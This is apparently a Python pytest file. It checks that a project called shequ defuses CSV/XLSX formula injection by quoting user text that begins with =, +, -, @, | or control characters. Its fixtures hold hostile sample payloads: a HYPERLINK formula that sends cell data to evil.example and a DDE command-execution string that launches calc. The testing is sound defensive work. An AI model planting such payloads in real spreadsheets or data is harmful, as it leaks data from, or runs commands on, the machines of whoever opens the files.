"""issue 13 #4 (formula injection): a text a user typed that starts with =, +, -, @, |, a
tab or a carriage return never reaches a CSV or XLSX that shequ writes as a live formula —
results, report workbook, ranking export, validation list, quarantine file, DHIS2 CSV —
while numbers stay numbers.

Each file is read back with an independent reader (openpyxl for XLSX, the csv module for
CSV) and the hostile unit names are looked for as they must appear: behind a single quote.
"""

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from shequ import sheets
from shequ.evaluate.assessment import assess
from shequ.evaluate.output import write_results
from shequ.framework.loader import load_plan
from shequ.ingest.orgunits import import_org_units
from shequ.ingest.values import import_values
from shequ.report.context import build_context
from shequ.report.xlsx import write_xlsx
from tests._files import write

HOSTILE = {
    "A": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "B": "+1+cmd|' /C calc'!A0",
    "E": "-2+3",
    "F": "@SUM(1,2)",
}
UNITS = f"""
code,name,parent_code,level
C,示范市,,city
D,东区,C,district
S1,|管道街道,D,street
S2,\t制表街道,D,street
A,"{HOSTILE["A"].replace('"', '""')}",S1,community
B,{HOSTILE["B"]},S1,community
E,{HOSTILE["E"]},S2,community
F,"{HOSTILE["F"]}",S2,community
"""
VALUES = """
org_unit,period,resident_population,residential_floor_area_m2
A,2025,1000,50000
B,2025,3000,90000
E,2025,2000,100000
F,2025,500,10000
"""


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("|calc", "'|calc"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),  # full-width equals sign, as a Chinese IME types it
        ("甲社区", "甲社区"),
        ("a=b", "a=b"),  # only the first character matters
        ("-3.5", "-3.5"),  # a plain number in text form stays that number
        ("+86", "+86"),
        ("1e5", "1e5"),
        (-3.5, -3.5),
        (7, 7),
        (None, None),
    ],
)
def test_a_text_a_spreadsheet_would_run_gets_a_leading_quote(typed, written):
    assert sheets.safe_cell(typed) == written


@pytest.fixture(scope="module")
def hostile_city(tmp_path_factory):
    from shequ.store.db import open_store

    folder = tmp_path_factory.mktemp("hostile")
    store = open_store(folder / "shequ.db")
    assert import_org_units(store, write(folder / "u.csv", UNITS)).exit_code == 0
    assert import_values(store, write(folder / "v.csv", VALUES)).exit_code == 0
    result = assess(store, load_plan("national"), periods=["2025"], sensitivity=False)
    return store, result, folder


def _xlsx_cells(path_or_bytes):
    book = load_workbook(path_or_bytes)
    return [c for s in book.worksheets for row in s.iter_rows() for c in row if c.value is not None]


def _assert_defused(cells):
    """No cell is a formula; every hostile name is there, behind a quote."""
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for name in HOSTILE.values():
        assert "'" + name in texts
        assert name not in texts


def test_issue13_4_results_xlsx_holds_no_formula(hostile_city, tmp_path):
    _, result, _ = hostile_city
    cells = _xlsx_cells(write_results(result.evaluation.results, tmp_path / "r.xlsx"))
    _assert_defused(cells)
    # numbers stay numbers: A's living area is 50 000 m² / 1 000 residents = 50
    assert 50 in {c.value for c in cells if c.data_type == "n"}


def test_issue13_4_results_csv_holds_no_formula(hostile_city, tmp_path):
    _, result, _ = hostile_city
    path = write_results(result.evaluation.results, tmp_path / "r.csv")
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    names = {cell for row in rows for cell in row}
    for name in HOSTILE.values():
        assert "'" + name in names and name not in names
    assert not any(cell.startswith(sheets.TRIGGERS) and not _number(cell) for cell in names)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_issue13_4_report_workbook_holds_no_formula(hostile_city, tmp_path):
    store, _, _ = hostile_city
    path = write_xlsx(build_context(store, unit="C"), tmp_path / "report.xlsx")
    cells = _xlsx_cells(path)
    _assert_defused(cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'|管道街道" in texts  # a street's name too (the importer strips the tab of S2's)


def test_issue13_4_ranking_export_holds_no_formula():
    from shequ.web.routes.dashboard import _export

    frame = pd.DataFrame(
        {"rank": [1, 2], "org_unit": ["A", "B"], "name": [HOSTILE["A"], HOSTILE["B"]],
         "score": [71.5, 60.0], "rank_low": [1, 1], "rank_high": [2, 2]}
    )  # fmt: skip
    for fmt in ("xlsx", "csv"):
        body = _drain(_export(frame, fmt, "zh", "ranking"))
        if fmt == "xlsx":
            cells = _xlsx_cells(io.BytesIO(body))
            assert [c.coordinate for c in cells if c.data_type == "f"] == []
            by_value = {c.value: c for c in cells}
            assert "'" + HOSTILE["A"] in by_value and "'" + HOSTILE["B"] in by_value
            assert by_value[71.5].data_type == "n"
        else:
            rows = list(csv.reader(body.decode("utf-8-sig").splitlines()))
            # the name neutralised, the score a plain number (a district column sits between)
            assert rows[1][2] == "'" + HOSTILE["A"] and "71.5" in rows[1]


def _drain(response):
    import asyncio

    async def collect():
        return b"".join([chunk async for chunk in response.body_iterator])

    return asyncio.run(collect())


def test_issue13_4_quarantine_file_holds_no_formula(hostile_city, tmp_path):
    store, _, _ = hostile_city
    bad = write(
        tmp_path / "bad.csv",
        "org_unit,period,resident_population\nA,2025,=1+1\nB,2025,@SUM(9)\nE,2025,2000\n",
    )
    report = import_values(store, bad)
    assert report.exit_code == 1  # A's and B's rows quarantined: not numbers
    rows = list(csv.reader(report.quarantine_path.read_text(encoding="utf-8-sig").splitlines()))
    values = [row[-1] for row in rows[1:]]
    assert values == ["'=1+1", "'@SUM(9)"]


def test_issue13_4_validation_list_holds_no_formula(tmp_path):
    from shequ.cli._show_validation import HEADERS, write_violations

    found = pd.DataFrame([{c: "x" for c in HEADERS if c != "row"}])
    found = found.assign(name=HOSTILE["A"], left=-3.5)
    write_violations(found, tmp_path / "v.xlsx")
    cells = _xlsx_cells(tmp_path / "v.xlsx")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells}
    assert "'" + HOSTILE["A"] in by_value
    assert by_value[-3.5].data_type == "n"


def test_issue13_4_workbook_cells_openpyxl_took_for_formulas_become_text():
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "=1+1"  # openpyxl alone would write this as a formula
    book.active["A2"] = 3.0
    sheets.safe_workbook(book)
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("'=1+1", "s")
    assert (sheet["A2"].value, sheet["A2"].data_type) == (3, "n")
